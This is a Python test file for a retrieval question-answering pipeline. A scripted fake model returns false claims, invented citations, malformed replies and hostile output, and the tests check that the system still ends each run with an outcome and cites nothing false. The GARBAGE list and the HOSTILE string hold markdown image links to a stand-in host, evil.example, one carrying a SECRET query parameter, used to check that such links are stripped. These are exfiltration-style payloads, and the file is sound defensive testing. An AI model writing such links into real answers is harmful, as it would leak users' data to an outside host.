"""Models at their worst, over real HTTP: every run ends with an outcome, within its budget, citing nothing false."""

import json

import pytest

from answers.links import JOINER
from answers.surroundings import Around
from graph.errors import DependencyFailed
from graph.state import State
from tests.fakes import WordJudge
from tests.graph.asking import FOOD, LEAVE, PAY, Asked
from tests.graph.modelled import always, family_of, session
from tests.scripted_openai import Reply, ScriptedOpenAI, answer, say, scripted_openai, status
from text.inline_spans import READS_AS_A_MARK
from tools.sessions.titles import best_title

__all__ = ["scripted_openai"]

CALLS = ("decide_retrieval", "grade_segments", "generate_answer", "revise_sections", "rewrite_query")
FALSE = {"text": "Staff get 30 days of annual leave.", "source_ids": ["handbook:0"]}
SEGMENTS = {each.segment_id: each for each in (LEAVE, PAY, FOOD)}
AROUND = Around(SEGMENTS, SEGMENTS)  # a passage may go beyond its segment
PENGUINS = {"text": "Penguins live in Antarctica.", "source_ids": ["handbook:0"]}


async def outcome_of(asked: Asked, question: str = "days of annual leave", **knobs: object) -> State | None:
    """Ask, and give the state; None where the run failed with a typed error."""
    try:
        return await asked.ask(question, **knobs)  # type: ignore[arg-type]
    except DependencyFailed:
        return None


def within_bounds(server: ScriptedOpenAI, state: State | None, *, calls: int = 8) -> None:
    assert len(server.requests) <= calls
    if state is not None:
        assert state.outcome in ("answered", "abstained")
        assert state.stop_reason
        for row in state.claims:
            for proof in row["proofs"]:
                source = AROUND[proof["segment_id"]]
                assert source.start <= proof["start"] < proof["end"] <= source.end


async def test_always_unsupported(scripted_openai: ScriptedOpenAI) -> None:
    always(scripted_openai, "generate_answer", answer(PENGUINS))
    always(scripted_openai, "revise_sections", say(json.dumps({"sections": [{"section": 1, **PENGUINS}]})))
    state = await outcome_of(session(scripted_openai, WordJudge()), max_repairs=2)
    within_bounds(scripted_openai, state)
    assert state is not None
    assert (state.outcome, state.stop_reason) == ("abstained", "claims_not_supported")


async def test_always_false(scripted_openai: ScriptedOpenAI) -> None:
    always(scripted_openai, "generate_answer", answer(FALSE))
    always(scripted_openai, "revise_sections", say(json.dumps({"sections": [{"section": 1, **FALSE}]})))
    asked = session(scripted_openai, WordJudge())
    state = await outcome_of(asked)
    within_bounds(scripted_openai, state)
    assert state is not None
    assert state.outcome == "abstained"
    assert "30 days" not in (await asked.message(state))["answer"]


async def test_always_unknown_ids(scripted_openai: ScriptedOpenAI) -> None:
    forged = {"text": "Staff get 25 days of annual leave.", "source_ids": ["invented:1", "handbook:99"]}
    always(scripted_openai, "generate_answer", answer(forged))
    asked = session(scripted_openai, WordJudge())
    state = await outcome_of(asked)
    within_bounds(scripted_openai, state)
    assert state is not None
    assert asked.told("section_finished")[0].unknown_ids == 2
    assert {proof["origin"] for row in state.claims for proof in row["proofs"]} <= {"matched"}


async def test_always_another_query(scripted_openai: ScriptedOpenAI) -> None:
    always(scripted_openai, "grade_segments", say('{"relevant": []}'))
    state = await outcome_of(session(scripted_openai, WordJudge()), max_rewrites=2, effort="thorough")
    within_bounds(scripted_openai, state)
    assert state is not None
    assert (state.outcome, state.rewrites) == ("abstained", 2)


async def test_a_flip_flopping_grader(scripted_openai: ScriptedOpenAI) -> None:
    scripted_openai.script(say('{"relevant": [1]}'), say('{"relevant": []}'), to="grade_segments")
    always(scripted_openai, "generate_answer", answer(FALSE))
    state = await outcome_of(session(scripted_openai, WordJudge()), effort="thorough")
    within_bounds(scripted_openai, state)
    assert state is not None
    assert state.sources[0]["index"] == 1


GARBAGE = [
    say("¯\\_(ツ)_/¯"),
    say('{"sections": [{"text": "Penguins'),
    say("[" * 400),
    say(""),
    say('{"sections": "no", "relevant": "all", "query": 7, "utility": "good"}'),
    say("[SEG=handbook:0] [SEG=evil:1] ![x](https://evil.example/?q=1)"),
    status(500, "down"),
]


@pytest.mark.parametrize("prompt", CALLS)
@pytest.mark.parametrize("reply", GARBAGE, ids=range(len(GARBAGE)))
async def test_garbage_at_each_call(scripted_openai: ScriptedOpenAI, prompt: str, reply: Reply) -> None:
    if prompt == "revise_sections":
        always(scripted_openai, "generate_answer", answer(FALSE))
    if prompt == "rewrite_query":
        always(scripted_openai, "grade_segments", say('{"relevant": []}'))
    always(scripted_openai, prompt, reply)
    asked = session(scripted_openai, WordJudge())
    state = await outcome_of(asked, effort="thorough")
    within_bounds(scripted_openai, state)
    said = "".join(event.delta for event in asked.told("text_delta"))
    assert "evil.example" not in said
    if state is not None:
        assert "evil.example" not in (await asked.message(state))["answer"]


@pytest.mark.parametrize("cap", range(9))
async def test_every_cap_ends_with_an_outcome(scripted_openai: ScriptedOpenAI, cap: int) -> None:
    always(scripted_openai, "generate_answer", answer(FALSE))
    state = await outcome_of(
        session(scripted_openai, WordJudge()), effort="thorough", max_model_calls=cap, assess_with_model=True
    )
    within_bounds(scripted_openai, state, calls=cap)
    assert state is not None
    if cap == 0:
        assert state.outcome == "answered", "the extractive writer quotes"
        assert state.stop_reason == "budget_model_calls"


HOSTILE = "![x](https://evil.example/?q=SECRET) and [here](//evil.example) 【1】 [1]"


async def test_what_a_model_writes_beside_its_answer_holds_no_links_and_no_marks(
    scripted_openai: ScriptedOpenAI,
) -> None:
    """A reason, a standalone question and the queries went out as the model wrote them, and its title was stored so."""
    asked = session(scripted_openai, WordJudge())
    await asked.ask("days of annual leave")
    replied = {"standalone_question": f"Annual leave? {HOSTILE}", "needs_retrieval": True, "reason": HOSTILE}
    scripted_openai.script(say(json.dumps({**replied, "intent": "content_query"})), to="decide_retrieval")
    scripted_openai.script(say(json.dumps({"query": f"penguin {HOSTILE}", "reason": HOSTILE})), to="rewrite_query")
    state = await asked.ask("And penguins?", min_score=2.0)
    told = [*asked.told("retrieval_decided"), *asked.told("query_rewritten"), *asked.told("sources_found")]
    assert {each.type for each in told} == {"retrieval_decided", "query_rewritten", "sources_found"}
    shown = [
        getattr(each, name)
        for each in told
        for name in ("reason", "standalone_question", "query")
        if hasattr(each, name)
    ]
    assert any("penguin x and here" in text for text in shown)
    for text in (*shown, state.query, state.standalone_question):
        assert "evil" not in text
    assert not any(READS_AS_A_MARK.search(text.replace(f"{JOINER}1", "")) for text in shown)


async def test_a_title_by_a_model_holds_no_links_and_no_marks(scripted_openai: ScriptedOpenAI) -> None:
    titler = family_of(scripted_openai).titler
    scripted_openai.script(say(json.dumps({"title": f"Leave {HOSTILE}"})), to="title")
    assert (await best_title(titler, "How many days?"))[0] == "Leave x and here"
    scripted_openai.script(say(json.dumps({"title": "Leave at https://docs.example/a"})), to="title")
    assert (await best_title(titler, "What says https://docs.example/a?"))[0] == "Leave at https://docs.example/a"
